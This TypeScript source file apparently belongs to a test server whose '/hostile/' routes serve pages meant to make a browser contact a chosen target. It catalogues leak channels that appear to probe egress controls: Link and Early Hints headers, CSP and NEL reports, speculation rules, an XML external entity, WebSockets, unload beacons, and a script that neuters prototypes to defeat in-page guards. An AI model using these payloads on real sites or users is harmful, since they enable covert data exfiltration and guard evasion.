import type { OutgoingHttpHeaders } from "node:http";
import { documentOf, send } from "../../answer.ts";
import { BadQuery, textFrom } from "../../visit.ts";
import type { Page, Visit } from "../../visit.ts";
import { type Aim, aimOf } from "./aim.ts";
import { signedExchange } from "./signed-exchange.ts";

/** A document whose way out is in its headers, its format or its end; its kind is the name that arrives. */
interface Document {
  headers?: OutgoingHttpHeaders;
  type?: string;
  body?: string | Buffer;
  /** `Link` values that are sent before the answer itself (103, RFC 8297). */
  early?: string[];
}

type Make = (aim: Aim, name: string) => Document;

const header =
  (field: string, value: (aim: Aim, name: string) => string, body = "x"): Make =>
  (aim, name) => ({ headers: { [field]: value(aim, name) }, body });

const linkTo = (more: string) => header("link", ({ at }, name) => `<${at(name)}>; ${more}`);

const RULES_PATH = "/hostile/h20-rules";
const SHEET_PATH = "/hostile/h20-sheet";

/** A picture that the policy forbids, so that there is something to report. */
const FORBIDDEN = `<img alt src="/image.png">`;

const reporting = (policy: string) => header("content-security-policy", policyOf(policy), FORBIDDEN);
const policyOf = (directive: string) => (aim: Aim, name: string) => `img-src 'none'; ${directive} ${aim.at(name)}`;

const endpoint = ({ secure }: Aim, name: string): OutgoingHttpHeaders => ({
  "reporting-endpoints": `out="${secure(name)}", default="${secure(name)}"`,
  "report-to": JSON.stringify({ group: "out", max_age: 600, endpoints: [{ url: secure(name) }] }),
});

const xml = (prolog: string): Document => ({ type: "text/xml", body: `<?xml version="1.0"?>${prolog}` });

/** Takes every built-in away that a guard in the page could lean on, and speculates then. */
const OVERRIDE = `for (const made of [Element, Node, Document, DocumentFragment, ShadowRoot, NodeList, MutationObserver, MutationRecord, HTMLScriptElement, RegExp, String, Array, Function, Object, Map, Set]) {
  for (const name of Object.getOwnPropertyNames(made.prototype)) {
    if (["constructor", "appendChild", "createElement", "append", "body", "text", "type", "attachShadow"].includes(name)) continue;
    try { Object.defineProperty(made.prototype, name, { configurable: true, get: () => () => null, set: () => {} }); } catch {}
  }
}
`;

const speculation = (address: string) =>
  JSON.stringify({ prefetch: [{ source: "list", urls: [address], eagerness: "immediate" }] });

const inline = (address: string) => `<script type="speculationrules">${speculation(address)}</script>`;

const dataRules = (address: string) =>
  `data:application/speculationrules+json,${encodeURIComponent(speculation(address))}`;

const overridden: Make = ({ at }, name) => ({
  body: `<script>const script = document.createElement("script");
script.type = "speculationrules";
script.text = ${JSON.stringify(speculation(at(name)))};
const host = document.createElement("div");
const root = host.attachShadow({ mode: "closed" });
const body = document.body;
${OVERRIDE}
body.appendChild(script);</script>`,
});

const unloading =
  (act: (address: string) => string): Make =>
  ({ at }, name) => ({ body: `<script>addEventListener("pagehide", () => { ${act(at(name))} })</script>` });

export const DOCUMENTS: Readonly<Record<string, Make>> = {
  "header-link-preload": linkTo("rel=preload; as=fetch; crossorigin"),
  "header-link-preload-image": linkTo("rel=preload; as=image"),
  "header-link-modulepreload": linkTo("rel=modulepreload"),
  "header-link-prefetch": linkTo("rel=prefetch"),
  "header-link-stylesheet": linkTo("rel=stylesheet"),
  "header-link-dictionary": linkTo("rel=compression-dictionary"),
  "header-link-preconnect": header("link", ({ secure }, name) => `<${secure(name)}>; rel=preconnect`),
  "header-link-preconnect-crossorigin": header(
    "link",
    ({ secure }, name) => `<${secure(name)}>; rel=preconnect; crossorigin`,
  ),
  "header-refresh": header("refresh", ({ at }, name) => `0; url=${at(name)}`),
  "header-speculation": header(
    "speculation-rules",
    ({ target }, name) => `"${RULES_PATH}?target=${target}&name=${name}"`,
  ),
  "header-speculation-away": header("speculation-rules", ({ at }, name) => `"${at(`${name}.json`)}"`),
  "header-session": header(
    "secure-session-registration",
    ({ at }, name) => `(ES256 RS256);path="${at(name)}";challenge="x";authorization="x"`,
  ),
  "header-csp-report": reporting("report-uri"),
  "header-csp-report-only": (aim, name) => ({
    headers: { "content-security-policy-report-only": policyOf("report-uri")(aim, name) },
    body: FORBIDDEN,
  }),
  "header-csp-report-to": (aim, name) => ({
    headers: { ...endpoint(aim, name), "content-security-policy": "img-src 'none'; report-to out" },
    body: FORBIDDEN,
  }),
  "header-nel": (aim, name) => ({
    headers: {
      ...endpoint(aim, name),
      nel: JSON.stringify({ report_to: "out", max_age: 600, success_fraction: 1, failure_fraction: 1 }),
    },
    body: FORBIDDEN,
  }),
  "header-embedder": (aim, name) => ({
    headers: { ...endpoint(aim, name), "cross-origin-embedder-policy": 'require-corp; report-to="out"' },
    body: `<iframe src="/plain"></iframe>`,
  }),
  "early-hints-preload": ({ at }, name) => ({ early: [`<${at(`${name}.css`)}>; rel=preload; as=style`] }),
  "early-hints-preconnect": ({ secure }, name) => ({ early: [`<${secure(name)}>; rel=preconnect`] }),
  "meta-refresh": ({ at }, name) => ({ body: `<meta http-equiv="refresh" content="0; url=${at(name)}">` }),
  "meta-link-base": ({ target }, name) => ({ body: `<base href="${target}/"><img alt src="${name}">` }),
  "xml-stylesheet-css": ({ at }, name) => xml(`<?xml-stylesheet type="text/css" href="${at(name)}"?><a/>`),
  "xml-stylesheet-xsl": ({ at }, name) => xml(`<?xml-stylesheet type="text/xsl" href="${at(name)}"?><a/>`),
  "xml-entity": ({ at }, name) => xml(`<!DOCTYPE a [<!ENTITY b SYSTEM "${at(name)}">]><a>&b;</a>`),
  "xml-dtd": ({ at }, name) => xml(`<!DOCTYPE a SYSTEM "${at(name)}"><a/>`),
  "xml-speculation": ({ at }, name) =>
    xml(
      `<x:div xmlns:x="http://www.w3.org/1999/xhtml"><x:script type="speculationrules">${speculation(at(name))}</x:script></x:div>`,
    ),
  "svg-document": ({ at }, name) => ({
    type: "image/svg+xml",
    body: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${at(name)}"/></svg>`,
  }),
  "svg-document-script": ({ at }, name) => ({
    type: "image/svg+xml",
    body: `<svg xmlns="http://www.w3.org/2000/svg"><script>new WebSocket("${at(name).replace("http", "ws")}")</script></svg>`,
  }),
  "socket-alone": ({ at }, name) => ({ body: `<script>new WebSocket("${at(name).replace("http", "ws")}")</script>` }),
  "xslt-socket": ({ target }, name) =>
    xml(`<?xml-stylesheet type="text/xsl" href="${SHEET_PATH}?target=${target}&amp;name=${name}"?><a/>`),
  "speculation-alone": ({ at }, name) => ({ body: inline(at(name)) }),
  "speculation-swapped": ({ at }, name) => ({
    headers: { "cross-origin-opener-policy": "same-origin" },
    body: inline(at(name)),
  }),
  "speculation-isolated": ({ at }, name) => ({
    headers: {
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-embedder-policy": "require-corp",
      "speculation-rules": `"${dataRules(at(name))}"`,
    },
  }),
  "speculation-header-data": header("speculation-rules", ({ at }, name) => `"${dataRules(at(name))}"`),
  "speculation-overridden": overridden,
  "signed-exchange": ({ secure }, name) => ({
    type: "application/signed-exchange;v=b3",
    headers: { "x-content-type-options": "nosniff" },
    body: signedExchange(secure(name)),
  }),
  "unload-beacon": unloading((address) => `navigator.sendBeacon("${address}", "x")`),
  "unload-keepalive": unloading((address) => `fetch("${address}", { keepalive: true, mode: "no-cors" })`),
  "unload-later": ({ at }, name) => ({ body: `<script>fetchLater("${at(name)}")</script>` }),
  "unload-socket": unloading((address) => `new WebSocket("${address.replace("http", "ws")}")`),
};

/** `/hostile/h20-document?target=&kind=&as=`: `as` is the name that arrives, where it is not the kind. */
export const escapingDocument: Page = (visit) => {
  const kind = textFrom(visit.url, "kind", "");
  const made = DOCUMENTS[kind]?.(aimOf(visit), textFrom(visit.url, "as", kind));
  if (made === undefined) throw new BadQuery(`kind must be one of ${Object.keys(DOCUMENTS).join(", ")}.`);
  const { headers = {}, type = "text/html; charset=utf-8", body = "x", early } = made;
  if (early !== undefined) visit.response.writeEarlyHints({ link: early });
  const page = typeof body === "string" && type.startsWith("text/html") ? documentOf({ title: kind, body }) : body;
  send(visit, { type, headers, body: page });
};

/** `/hostile/h20-rules?target=&name=`: speculation rules as a document of their own. */
export const speculationRules: Page = (visit) => {
  const body = speculation(aimOf(visit).at(textFrom(visit.url, "name", "rules")));
  send(visit, { type: "application/speculationrules+json", body });
};

/** `/hostile/h20-sheet?target=&name=`: a style sheet that turns any XML into a document with a script. */
export const transformation: Page = (visit) => {
  const address = aimOf(visit)
    .at(textFrom(visit.url, "name", "sheet"))
    .replace("http", "ws");
  const markup = `<html><body><script>new WebSocket("${address}")</script></body></html>`;
  const sheet = `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:output method="html"/><x:template match="/">${markup}</x:template></x:stylesheet>`;
  send(visit, { type: "text/xsl", body: sheet });
};

/** `/hostile/h20-style.css` and the like: resources that bring headers of their own. */
export function resourceOf(type: string, body: string): Page {
  return (visit: Visit) => {
    const { at, secure } = aimOf(visit);
    const name = textFrom(visit.url, "name", "resource");
    const link = `<${at(`${name}-preload`)}>; rel=preload; as=fetch; crossorigin, <${secure(`${name}-preconnect`)}>; rel=preconnect`;
    send(visit, { type, headers: { link, refresh: `0; url=${at(name)}` }, body });
  };
}
